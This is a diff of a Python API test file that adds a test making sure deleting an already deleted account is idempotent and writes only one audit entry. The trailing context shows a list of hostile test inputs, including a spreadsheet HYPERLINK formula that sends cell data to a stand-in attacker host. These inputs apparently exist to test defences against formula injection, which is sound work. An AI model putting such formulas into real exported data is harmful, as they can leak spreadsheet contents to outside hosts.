@@ -166,6 +166,24 @@ def test_soft_delete_refuses_takes_and_is_audited(client, keys):
     ]
 
 
+def test_deleting_a_deleted_account_again_is_200_and_writes_no_audit_row(client, keys):
+    _account(client, keys)
+    first = client.delete("/v1/admin/accounts/acc_f", headers=keys["admin"])
+    again = client.delete("/v1/admin/accounts/acc_f", headers=keys["admin"])
+    assert (
+        (again.status_code, again.json)
+        == (first.status_code, first.json)
+        == (
+            200,
+            {"id": "acc_f", "deleted": True},
+        )
+    )
+    audit = client.get("/v1/audit", query_string={"account_id": "acc_f"}, headers=keys["finance"]).json
+    assert [(a["action"], a["old"], a["new"]) for a in audit["items"]] == [
+        ("account_deleted", {"deleted": False}, {"deleted": True})
+    ]
+
+
 HOSTILE_KEYS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+1+1",
